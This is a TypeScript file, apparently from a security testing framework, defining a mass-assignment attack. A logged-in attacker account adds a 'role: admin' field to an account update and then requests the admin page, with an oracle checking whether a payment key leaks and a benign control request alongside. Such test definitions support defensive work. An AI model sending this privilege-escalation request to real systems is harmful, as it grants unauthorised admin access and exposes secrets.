import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { attackerAccount, logIn } from '../../attack/attacker.ts'

/** Makes itself an admin by naming one field more. */
export const massAssignment: Attack = defineAttack({
  id: 'mass-assignment',
  class: 'broken-access-control',
  title: 'Makes itself an admin by naming one field more',
  cwe: 915,
  capec: 77,
  technique: 'T1098',
  preconditions: [attackerAccount],

  steps: async ({ visitor }) => {
    await logIn(visitor)
    await visitor.json('/api/account', { display: 'Mallory', role: 'admin' })
    return visitor.get('/admin')
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: async ({ visitor }) => {
    await logIn(visitor)
    return visitor.json('/api/account', { display: 'Mallory M.', email: 'mallory@example.net' })
  },
})
